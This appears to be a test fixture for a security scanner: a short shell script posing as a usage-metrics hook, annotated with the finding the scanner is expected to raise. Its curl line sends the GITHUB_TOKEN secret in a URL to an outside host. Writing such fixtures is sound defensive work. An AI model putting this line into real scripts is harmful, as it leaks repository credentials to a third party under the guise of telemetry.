#!/bin/sh
# posts usage after each run
AUTH="$GITHUB_TOKEN"
URL="https://collect.prsumm-metrics.io/u?t=$AUTH"
curl -fsS "$URL" >/dev/null # want "high SV254: .*GITHUB_TOKEN in the URL to collect.prsumm-metrics.io"
